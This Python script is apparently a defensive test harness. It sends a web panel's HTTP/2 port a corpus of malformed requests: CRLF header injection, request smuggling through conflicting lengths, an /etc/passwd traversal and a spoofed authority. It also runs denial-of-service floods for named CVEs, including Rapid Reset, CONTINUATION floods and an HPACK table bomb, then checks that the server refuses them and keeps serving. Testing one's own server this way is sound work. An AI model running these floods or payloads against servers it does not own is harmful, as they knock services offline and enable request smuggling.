#!/usr/bin/env python3
"""What a hostile client does to the panel's port over HTTP/2, frame by frame.

h2.py ADDRESS PORT NAME     sends the corpus; prints what was wrong, then "N attacks, N wrong"

A request that HTTP/1 would read differently must not be answered with a page, and a flood must end the connection
and leave the next client served. Header blocks are written with literals only (RFC 7541, 6.2.2), answers are read by
their first byte: ours sends the status as an indexed field or a literal.
"""

import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INDEXED = {0x88: 200, 0x89: 204, 0x8A: 206, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}
REFUSED_STREAM, ENHANCE_YOUR_CALM = 7, 11


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def number(value, bits):
    """RFC 7541, 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    out, value = bytes([most]), value - most
    while value >= 128:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])


def field(name, value, indexed=False):
    prefix = b"\x40" if indexed else b"\x00"
    return prefix + number(len(name), 7) + name + number(len(value), 7) + value


def block(host, *more, path=b"/robots.txt", method=b"GET", authority=None):
    pseudo = [(b":method", method), (b":scheme", b"https"), (b":path", path)]
    pseudo.append((b":authority", host if authority is None else authority))
    return b"".join(field(*one) for one in [*pseudo, *more])


class Connection:
    def __init__(self, address, port, name):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection((address, port), timeout=20)
        self.stream = context.wrap_socket(plain, server_hostname=name)
        if self.stream.selected_alpn_protocol() != "h2":
            raise SystemExit("the panel does not speak HTTP/2")
        self.buffer, self.settings, self.closed, self.goaway = b"", {}, False, None
        self.statuses, self.resets, self.ended = {}, {}, set()
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))

    def send(self, payload):
        try:
            self.stream.sendall(payload)
        except OSError:
            self.closed = True

    def listen(self, until=lambda self: False, seconds=5.0):
        """Reads frames until that is so, the other side closes, or the time is over."""
        deadline = time.monotonic() + seconds
        while not (self.closed or until(self)) and time.monotonic() < deadline:
            self.stream.settimeout(max(0.01, min(0.5, deadline - time.monotonic())))
            try:
                part = self.stream.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                continue
            except OSError:
                part = b""
            self.closed = not part
            self.buffer += part
            self.take()

    def take(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags, stream = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big")
            payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
            self.heard(kind, flags, stream, payload)

    def heard(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            self.settings |= {k: v for k, v in struct.iter_unpack("!HI", payload)}
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == HEADERS and stream not in self.statuses:
            self.statuses[stream] = status(payload)
        elif kind == RST_STREAM:
            self.resets[stream] = int.from_bytes(payload, "big")
        elif kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big")
        if kind in (HEADERS, DATA) and flags & END_STREAM:
            self.ended.add(stream)

    def ask(self, header_block, body=None, stream=1):
        ending = END_STREAM if body is None else 0
        first, rest = header_block[:16000], header_block[16000:]
        self.send(frame(HEADERS, ending | (0 if rest else END_HEADERS), stream, first))
        if rest:
            self.send(frame(CONTINUATION, END_HEADERS, stream, rest))
        if body is not None:
            self.send(frame(DATA, END_STREAM, stream, body))
        self.listen(lambda own: stream in own.statuses or stream in own.resets or own.goaway is not None)
        return self.outcome(stream)

    def outcome(self, stream=1):
        if stream in self.statuses:
            return self.statuses[stream]
        return "closed" if self.closed or self.goaway is not None else "reset" if stream in self.resets else "nothing"


def status(payload):
    """The status at the head of a block; updates of the table's size may stand before it."""
    while payload and payload[0] & 0xE0 == 0x20:
        payload = payload[1:]
    if payload and payload[0] in INDEXED:
        return INDEXED[payload[0]]
    if len(payload) > 4 and payload[0] & 0x0F in (8, 9, 10, 11, 12, 13, 14):
        raw = payload[2 : 2 + (payload[1] & 0x7F)]
        return int(raw) if raw.isdigit() else digits(raw)
    return -1


def digits(raw):
    """Digits in the code of RFC 7541, Appendix B: 0 to 2 in five bits, 3 to 9 in six."""
    bits, out = "".join(f"{byte:08b}" for byte in raw), ""
    codes = {"00000": "0", "00001": "1", "00010": "2"} | {f"{0x19 + n:06b}": str(n + 3) for n in range(7)}
    while bits:
        code = next((c for c in codes if bits.startswith(c)), None)
        if code is None:
            break
        out, bits = out + codes[code], bits[len(code) :]
    return int(out) if out else -1


# ---- requests that HTTP/1 would read differently ---------------------------------------------------------------------

FORM = (
    (b"content-type", b"application/x-www-form-urlencoded"),
    (b"sec-fetch-site", b"same-origin"),
)


def corpus(host):
    """A name, a header block, a body or None. None of them may be answered with a page."""
    for raw in (b"a\r\nx-two: b", b"a\nb", b"a\rb", b"a\0b"):
        yield f"{raw!r} in a value", block(host, (b"x-one", raw)), None
    yield "a line end in a name", block(host, (b"x-one\r\nx-two", b"b")), None
    yield "a line end in the path", block(host, path=b"/robots.txt HTTP/1.1\r\nx: y"), None
    yield "a blank in the path", block(host, path=b"/robots .txt"), None
    yield "a line end in the method", block(host, method=b"GET / HTTP/1.1\r\nx: y\r\n\r\nGET"), None
    yield "a line end in the name of the server", block(host, authority=host + b"\r\nx: y"), None
    yield "a name in capitals", block(host, (b"X-One", b"b")), None
    for name, value in (
        (b"transfer-encoding", b"chunked"),
        (b"connection", b"close"),
        (b"connection", b"upgrade"),
        (b"keep-alive", b"5"),
        (b"proxy-connection", b"close"),
        (b"upgrade", b"h2c"),
        (b"te", b"chunked"),
    ):
        yield f"the field {name.decode()}: {value.decode()}", block(host, (name, value)), None
    post = dict(path=b"/theme", method=b"POST")
    yield "chunks in a body", block(host, *FORM, (b"transfer-encoding", b"chunked"), **post), b"0\r\n\r\n"
    yield "a length below the body's", block(host, *FORM, (b"content-length", b"1"), **post), b"theme=dark"
    yield "a length above the body's", block(host, *FORM, (b"content-length", b"90"), **post), b"theme=dark"
    yield "two lengths", block(host, *FORM, (b"content-length", b"10"), (b"content-length", b"0"), **post), b"theme=dark"
    yield "a length that is none", block(host, *FORM, (b"content-length", b"+10"), **post), b"theme=dark"
    yield "two paths", block(host) + field(b":path", b"/login"), None
    yield "two servers", block(host) + field(b":authority", b"evil.example"), None
    yield "a pseudo field at the end", block(host, (b"x-one", b"b")) + field(b":method", b"POST"), None
    yield "a pseudo field there is not", block(host) + field(b":other", b"b"), None
    yield "a status in a request", block(host) + field(b":status", b"200"), None
    yield "no path", field(b":method", b"GET") + field(b":scheme", b"https") + field(b":authority", host), None
    yield "no method", field(b":path", b"/robots.txt") + field(b":scheme", b"https") + field(b":authority", host), None
    yield "an empty path", block(host, path=b""), None
    yield "a path without a slash", block(host, path=b"robots.txt"), None
    yield "a path of another server", block(host, path=b"https://evil.example/robots.txt"), None
    yield "another server", block(host, authority=b"evil.example"), None
    yield "a server that begins with ours", block(host, authority=host + b".evil.example"), None
    yield "a server with a user", block(host, authority=b"evil@" + host), None
    yield "an empty server", block(host, authority=b""), None
    yield "another server in the old field", block(host, (b"host", b"evil.example")), None
    yield "dots in the path", block(host, path=b"/a/..%2f..%2fetc/passwd"), None
    yield "two slashes", block(host, path=b"//robots.txt"), None
    yield "asking for a tunnel", field(b":method", b"CONNECT") + field(b":authority", b"evil.example:443"), None
    yield "20 KiB of fields", block(host, *[(b"x-%d" % n, b"b" * 400) for n in range(50)]), None
    yield "an index there is not", block(host) + b"\xff\x7f", None
    yield "a block cut off", block(host) + b"\x00\x05ab", None


# ---- floods ------------------------------------------------------------------------------------------------------------


def rapid_reset(one, host):
    """CVE-2023-44487: streams that are begun and given up."""
    pair = lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, block(host, path=b"/login")) + frame(RST_STREAM, 0, n, struct.pack("!I", 8))
    for start in range(1, 20_000, 400):
        one.send(b"".join(pair(n) for n in range(start, start + 400, 2)))
        one.listen(seconds=0.02)
        if one.closed or one.goaway is not None:
            break


def made_reset(one, host):
    """CVE-2025-8671: streams that we reset for a fault of the client's."""
    for start in range(1, 20_000, 400):
        pairs = (frame(HEADERS, END_HEADERS | END_STREAM, n, block(host)) + frame(WINDOW_UPDATE, 0, n, bytes(4)) for n in range(start, start + 400, 2))
        one.send(b"".join(pairs))
        one.listen(seconds=0.02)
        if one.closed or one.goaway is not None:
            break


def continuation(one, host):
    """CVE-2024-27316: a header block without an end."""
    one.send(frame(HEADERS, END_STREAM, 1, block(host)))
    for _ in range(4000):
        one.send(frame(CONTINUATION, 0, 1, field(b"x-more", b"b" * 16000)))
        if one.closed:
            break
    one.listen(lambda own: own.goaway is not None, 10)


def empty_continuation(one, host):
    one.send(frame(HEADERS, END_STREAM, 1, block(host)))
    for _ in range(2000):
        one.send(frame(CONTINUATION, 0, 1) * 100)
        if one.closed:
            break
    one.listen(lambda own: own.goaway is not None, 10)


def table_bomb(one, host):
    """CVE-2016-6581: one long field, named again and again."""
    one.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block(host) + field(b"x-bulk", b"b" * 4000, indexed=True)))
    for n in range(3, 60, 2):
        one.send(frame(HEADERS, END_HEADERS | END_STREAM, n, block(host) + b"\xbe" * 15000))
    one.listen(lambda own: len(own.statuses) + len(own.resets) >= 29 or own.goaway is not None, 10)


ENDING = (rapid_reset, made_reset, continuation, empty_continuation)


def streams(one, host):
    """More requests at once than were allowed; each waits for its body."""
    one.listen(lambda own: own.settings)
    most = one.settings.get(3, 0)
    head = block(host, *FORM, (b"content-length", b"10"), path=b"/theme", method=b"POST")
    one.send(b"".join(frame(HEADERS, END_HEADERS, n, head) for n in range(1, 400, 2)))
    one.listen(lambda own: len(own.resets) >= 200 - most or own.goaway is not None)
    refused = sum(code == REFUSED_STREAM for code in one.resets.values())
    if not 1 <= most <= 64 or (refused < 200 - most and one.goaway is None):
        return f"{most} streams were allowed, {refused} of 200 refused"
    return None


def main(address, port, name):
    host = b"%s:%d" % (name.encode(), port)
    fresh = lambda: Connection(address, port, name)
    wrong, count = [], 0

    def served():
        began = time.monotonic()
        outcome = fresh().ask(block(host))
        took = time.monotonic() - began
        return None if outcome == 200 and took < 5 else f"an ordinary request afterwards: {outcome} in {took:.1f} s"

    def judge(what, verdict):
        nonlocal count
        count += 1
        if verdict:
            wrong.append(f"{what}: {verdict}")

    judge("an ordinary request", served())
    for what, header_block, body in corpus(host):
        one = fresh()
        outcome = one.ask(header_block, body)
        right = outcome in ("reset", "closed") or isinstance(outcome, int) and 400 <= outcome < 500
        judge(what, None if right else outcome)
    judge("too many streams", streams(fresh(), host))
    for flood in (*ENDING, table_bomb):
        one = fresh()
        flood(one, host)
        ended = one.closed or one.goaway is not None
        pages = sum(code == 200 for stream, code in one.statuses.items() if stream > 1)
        told = f"{len(one.statuses)} answers, {len(one.resets)} resets, not ended"
        judge(flood.__name__, None if ended or flood is table_bomb and not pages else told)
        judge(f"after {flood.__name__}", served())
    print(*wrong, sep="\n", end="\n" if wrong else "")
    print(f"{count} attacks, {len(wrong)} wrong")


main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
